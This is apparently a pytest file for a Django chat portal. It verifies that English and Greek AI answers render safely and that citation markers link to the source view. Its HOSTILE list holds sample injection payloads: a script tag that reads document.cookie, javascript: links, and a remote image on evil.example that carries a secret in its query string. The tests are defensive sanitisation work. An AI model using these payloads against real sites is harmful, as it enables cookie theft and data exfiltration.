"""One renderer for answers: the final ``answer`` event's ``html`` and the history page are guards.render's HTML.

Hostile answers in English and Greek (a script tag, a ``javascript:`` link, an image on a remote host, a ``//evil``
link) and a Greek answer with citations [1][2] render the same way in the event and on the page: citation markers
link to the source view, no ``<img>``, no ``<script>``, no live link off the portal.
"""

from __future__ import annotations

import re

import pytest
from django.urls import reverse

from chat.events import answer_event, answer_html
from chat.models import ChatSession, Query, Response
from guards.render import markdown_html

CITES = [
    {"number": 1, "chunk_id": 5, "document_id": 4, "document_title": "ΦΕΚ", "location": "σ. 2", "quote": "ελέγχου",
     "url": "/documents/4/source/?chunk=5"},
    {"number": 2, "chunk_id": 6, "document_id": 4, "document_title": "ΦΕΚ", "location": "σ. 3", "quote": "μέλη",
     "url": "/documents/4/source/?chunk=6"},
]  # fmt: skip
HOSTILE = [
    "Done <script>alert(document.cookie)</script> [click](javascript:alert(1))",
    "Έτοιμο <script>alert(document.cookie)</script> [πατήστε](javascript:alert(1))",
    "See ![chart](https://evil.example/p.png?q=secret) and [more](//evil.example/x)",
    "Δείτε ![διάγραμμα](https://evil.example/p.png?q=μυστικό) και [περισσότερα](//evil.example/x)",
]
GREEK = "Η Επιτροπή Ελέγχου είναι ανεξάρτητη [1] και τα μέλη της ορίζονται από τη γενική συνέλευση [2]."


def _live_hrefs(html: str) -> list[str]:
    return re.findall(r'<a [^>]*href="([^"]*)"', html)


def _assert_inert(html: str) -> None:
    assert "<script" not in html and "<img" not in html and "onerror" not in html
    assert all(href.startswith("/") and not href.startswith("//") for href in _live_hrefs(html)), html


@pytest.mark.parametrize("text", HOSTILE)
def test_final_event_html_is_the_cleaned_rendering_of_hostile_answers(text):
    event = answer_event(text=text, citations=[], response_id=7, query_id=3, status="completed")
    assert event["text"] == text
    assert event["html"] == markdown_html(text, image_label="image not loaded", link_label="external link")
    _assert_inert(event["html"])
    assert _live_hrefs(event["html"]) == []
    assert "&lt;script&gt;" in event["html"] or "blocked" in event["html"]


def test_final_event_html_links_greek_citation_markers_to_the_source_view():
    event = answer_event(text=GREEK, citations=CITES, response_id=7, query_id=3, status="completed")  # type: ignore[arg-type]
    assert _live_hrefs(event["html"]) == ["/documents/4/source/?chunk=5", "/documents/4/source/?chunk=6"]
    assert '<a href="/documents/4/source/?chunk=5" class="ref">[1]</a>' in event["html"]
    assert "Η Επιτροπή Ελέγχου είναι ανεξάρτητη" in event["html"]


def test_blocked_labels_follow_the_active_language():
    from django.utils import translation

    with translation.override("el"):
        greek = answer_html("![x](https://evil.example/p.png)", [])
    english = answer_html("![x](https://evil.example/p.png)", [])
    assert "image not loaded" in english
    assert "image not loaded" not in greek and 'class="blocked"' in greek


@pytest.mark.django_db
@pytest.mark.parametrize("text", [*HOSTILE, GREEK])
def test_history_page_shows_the_same_html_as_the_event(client, reader, text):
    session = ChatSession.objects.create(user=reader)
    query = Query.objects.create(user=reader, session=session, text="Τι είναι;")
    Response.objects.create(query=query, text=text, status="completed", citations=CITES)
    client.force_login(reader)
    page = client.get(reverse("chat:session", args=[session.pk])).content.decode()
    body = page.split('<div class="md">', 1)[1].split("</div>", 1)[0]
    assert body == answer_html(text, CITES)
    _assert_inert(body)
    if text == GREEK:
        assert _live_hrefs(body) == ["/documents/4/source/?chunk=5", "/documents/4/source/?chunk=6"]
    else:
        assert _live_hrefs(body) == []
